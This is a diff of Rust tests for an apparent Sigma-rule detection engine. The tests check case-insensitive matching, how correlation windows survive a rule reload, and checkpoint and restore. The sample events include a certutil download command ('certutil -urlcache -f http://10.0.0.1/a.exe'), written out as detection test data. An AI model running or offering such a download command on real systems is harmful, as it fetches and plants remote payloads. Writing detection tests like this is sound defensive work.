@@ -477,4 +477,152 @@ fn dispatch_and_prefilter_find_what_evaluating_everything_finds() {
         total += a.len();
     }
     assert!(total >= 3, "the sample events fire some rules ({total})");
+    // Case never matters, whether the value is ASCII (compared folding case in place) or
+    // not (lower-cased first): the same event in capitals, or with a non-ASCII
+    // character in a part no rule reads, fires the same rules.
+    let sysmon = |image: &str, cmd: &str| {
+        let mut e = proc_event(image, cmd);
+        e.set(
+            "winlog.channel",
+            Value::from("Microsoft-Windows-Sysmon/Operational"),
+        )
+        .unwrap();
+        e.set("winlog.event_id", Value::from(1)).unwrap();
+        e
+    };
+    let lower = sysmon(
+        "c:\\windows\\system32\\certutil.exe",
+        "certutil -urlcache -f http://10.0.0.1/a.exe a.exe",
+    );
+    let upper = sysmon(
+        "C:\\WINDOWS\\SYSTEM32\\CERTUTIL.EXE",
+        "CERTUTIL -URLCACHE -F HTTP://10.0.0.1/A.EXE A.EXE",
+    );
+    let accented = sysmon(
+        "C:\\Windows\\System32\\CertUtil.exe",
+        "CertUtil -URLCache -f http://10.0.0.1/Jürgen.exe Jürgen.exe",
+    );
+    let expected = hits(&slow, &lower);
+    assert!(!expected.is_empty());
+    for e in [&lower, &upper, &accented] {
+        assert_eq!(hits(&fast, e), expected, "{e:?}");
+        assert_eq!(hits(&slow, e), expected, "{e:?}");
+    }
+}
+
+/// Five port-22 connections from one source within ten minutes (the base rule `conn`
+/// counts any connection with a port).
+const FIVE: &str = "title: five\nid: five\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [conn]\n  group-by: [source.ip]\n  timespan: 10m\n  condition: {gte: 5}\n";
+
+fn five_set(corr: &str, extra: &str) -> Arc<RuleSet> {
+    let src = if extra.is_empty() {
+        format!("{BASE}---\n{corr}")
+    } else {
+        format!("{extra}---\n{BASE}---\n{corr}")
+    };
+    let set = set_of(&[("r.yml", &src)]);
+    assert_eq!(set.errors(), &[]);
+    Arc::new(set)
+}
+
+fn feed(eng: &mut SigmaEngine, times: std::ops::Range<i64>) -> Vec<Signal> {
+    let mut out = Vec::new();
+    for t in times {
+        eng.observe(
+            &fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22),
+            &mut out,
+        );
+    }
+    out
+}
+
+#[test]
+fn reload_keeps_the_windows_of_unchanged_correlations() {
+    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
+    assert!(feed(&mut eng, 0..3).is_empty());
+    assert_eq!(eng.windows().groups(), 1);
+    // The same correlation reloaded, in a set where another rule now comes first (so every
+    // rule index moved) and its title and level changed: the window carries over.
+    let other = "title: other\nid: other\nlogsource: {category: firewall}\ndetection:\n  sel: {destination.port: 3389}\n  condition: sel\n";
+    let renamed = FIVE
+        .replace("title: five", "title: five connections")
+        .replace("level: high", "level: critical");
+    eng.replace(five_set(&renamed, other));
+    let out = feed(&mut eng, 3..5);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].title, "five connections");
+    assert_eq!(out[0].evidence.observed, Some(5.0));
+    assert_eq!(out[0].start_ms, 0);
+}
+
+#[test]
+fn reload_starts_changed_correlations_afresh() {
+    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
+    assert!(feed(&mut eng, 0..3).is_empty());
+    // The window grows to 20 minutes: a new definition, a new count.
+    eng.replace(five_set(&FIVE.replace("10m", "20m"), ""));
+    assert_eq!(eng.windows().groups(), 0);
+    assert!(feed(&mut eng, 3..7).is_empty());
+    let out = feed(&mut eng, 7..8);
+    assert_eq!(out.len(), 1);
+    assert_eq!(out[0].start_ms, 30_000);
+    // So does a change in the rule it counts.
+    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
+    assert!(feed(&mut eng, 0..3).is_empty());
+    let base = BASE.replace("destination.port|exists: true", "destination.port: 22");
+    let set = set_of(&[("r.yml", &format!("{base}---\n{FIVE}"))]);
+    eng.replace(Arc::new(set));
+    assert!(feed(&mut eng, 3..7).is_empty());
+    // A correlation removed and brought back has lost its window too.
+    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
+    assert!(feed(&mut eng, 0..3).is_empty());
+    eng.replace(Arc::new(set_of(&[("r.yml", BASE)])));
+    eng.replace(five_set(FIVE, ""));
+    assert!(feed(&mut eng, 3..7).is_empty());
+}
+
+#[test]
+fn checkpoint_mid_window_fires_after_restore() {
+    use crate::{Detector, DetectorConfig};
+    let fired = |d: &mut Detector| {
+        d.take_changed()
+            .into_iter()
+            .filter(|i| i.title.contains("five"))
+            .count()
+    };
+    let mut d = Detector::new(DetectorConfig::default()).unwrap();
+    d.set_rules(Some(five_set(FIVE, "")));
+    for t in 0..3 {
+        d.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22));
+    }
+    assert_eq!(fired(&mut d), 0);
+    let bytes = d.checkpoint().unwrap();
+    // The checkpoint is the same bytes for the same state.
+    assert_eq!(bytes, d.checkpoint().unwrap());
+    let restart = |bytes: &[u8]| {
+        let mut d = Detector::restore(DetectorConfig::default(), bytes).unwrap();
+        // Rules are loaded from their folder again after the restart.
+        d.set_rules(Some(five_set(FIVE, "")));
+        d
+    };
+    let mut d = restart(&bytes);
+    assert_eq!(d.rules().unwrap().windows().groups(), 1);
+    for t in 3..5 {
+        d.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22));
+    }
+    assert_eq!(fired(&mut d), 1);
+    // Without the windows (a checkpoint taken before any rule ran), the same two events
+    // are not enough.
+    let mut fresh = Detector::new(DetectorConfig::default()).unwrap();
+    let mut d = restart(&fresh.checkpoint().unwrap());
+    for t in 3..5 {
+        d.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22));
+    }
+    assert_eq!(fired(&mut d), 0);
+    assert_eq!(fired(&mut fresh), 0);
+    // A checkpoint written before windows were checkpointed still restores.
+    let mut old: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
+    old.as_object_mut().unwrap().remove("sigma_windows");
+    let d = restart(&serde_json::to_vec(&old).unwrap());
+    assert_eq!(d.rules().unwrap().windows().groups(), 0);
 }
